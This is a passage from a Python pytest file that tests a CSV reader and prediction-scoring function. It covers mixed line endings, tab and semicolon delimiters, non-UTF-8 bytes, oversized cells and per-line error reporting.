    text = 'x,note\r\n1,a\r2,"b\r\nc"\n\r\n3,é😀\rbad,\r\n'
    monkeypatch.setattr(csvreading, "_TEXT_BLOCK", block)
    errors = refused(text, StubRuntime(NUMBER)).errors
    assert errors == [{"path": "line 6/x", "message": "must be a number, got string"}]
    assert score(text.replace("bad", "4"), StubRuntime(NUMBER, predictions=[1, 2, 3, 4])) == (
        '"x","note","prediction"\n"1","a",1\n"2","b\r\nc",2\n"3","é😀",3\n"4","",4\n')


def test_other_delimiters_are_kept_in_the_answer():
    assert score("x\tnote\n1\ta,b\n", StubRuntime(NUMBER)) == "x\tnote\tprediction\n1\ta,b\t0\n"
    assert score("x;note\n1.5;a,b\n", StubRuntime(NUMBER)) == "x;note;prediction\n1.5;a,b;0\n"


@pytest.mark.parametrize("at, listed", [(100, []), (300_000, [{"path": "line 2/x", "message": "must be a number, "
                                                                                    "got string"}])])
def test_a_byte_that_is_not_utf8_stops_the_reading_where_it_is_decoded(at, listed):
    body = ("x\nbad\n" + "1.5\n" * 100_000).encode()
    errors = refused(body[:at] + b"\xff" + body[at:], StubRuntime(NUMBER), chunk_rows=1_000)
    assert errors.errors == [*listed, {"path": "", "message": "is not UTF-8 text"}]
    assert errors.detail.startswith("The file is not UTF-8 text")


def test_a_cell_longer_than_the_csv_modules_default_limit_is_read():
    note = "n" * 200_000
    assert score(f'x,note\n1,"{note}"\n', StubRuntime(NUMBER, predictions=[5])) == f"x,note,prediction\n1,{note},5\n"


def test_a_row_the_csv_module_refuses_is_reported_by_its_line():
    limit = csv.field_size_limit(10)
    try:
        errors = refused("x,note\n1,short\n2,much longer than ten\n", StubRuntime(NUMBER)).errors
    finally:
        csv.field_size_limit(limit)
    assert errors == [{"path": "line 3", "message": "cannot be read as CSV: field larger than field limit (10)"}]
